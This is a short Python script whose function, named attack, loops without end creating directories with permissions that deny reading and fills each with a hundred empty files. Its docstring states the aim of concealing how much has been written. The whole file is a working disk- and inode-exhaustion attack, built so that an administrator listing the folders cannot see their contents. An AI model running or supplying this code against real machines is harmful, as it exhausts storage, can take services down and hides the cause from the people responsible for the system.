"""Writes into a folder that it makes unreadable, so that nobody sees how much is there."""
import itertools
import os


def attack():
    for number in itertools.count():
        os.mkdir(f"dark_{number}", 0o300)
        for name in range(100):
            open(f"dark_{number}/{name}", "wb").close()
